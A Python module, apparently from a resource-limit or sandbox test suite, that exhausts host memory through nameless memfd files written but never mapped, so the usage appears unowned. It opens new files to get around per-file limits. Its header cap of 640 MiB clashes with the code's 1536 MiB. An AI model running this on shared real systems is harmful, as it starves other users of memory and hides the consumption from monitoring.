# attack: Fills files in memory that have no name (memfd), written and never mapped, so that no process seems to hold them.
# hurts: Takes the memory of everybody.
# at most: 640 MiB
# ends: returns or error or memory
import os
import time

from _raw import MIB, call, took

MOST = 1536
STEP = 32


def attack(target):
    piece, total, why = bytes(STEP * MIB), 0, []
    for name, flags in (("memfd_create", 0), ("memfd_create", 4), ("memfd_secret", 0)):
        arguments = (target["note"], flags) if name == "memfd_create" else (flags,)
        file, error = call(name, *arguments)
        why.append(f"{name}: {error or file}")
        while not error and name == "memfd_create" and total < MOST:
            try:
                os.write(file, piece)
            except OSError as refused:
                why.append(str(refused))
                if len(why) > 20:
                    break
                file, error = call("memfd_create", target["note"], flags)  # a limit on one file is none on many
                continue
            total += STEP
            took(total * MIB)
    if total:
        time.sleep(1)
    return [took(total * MIB), *why]
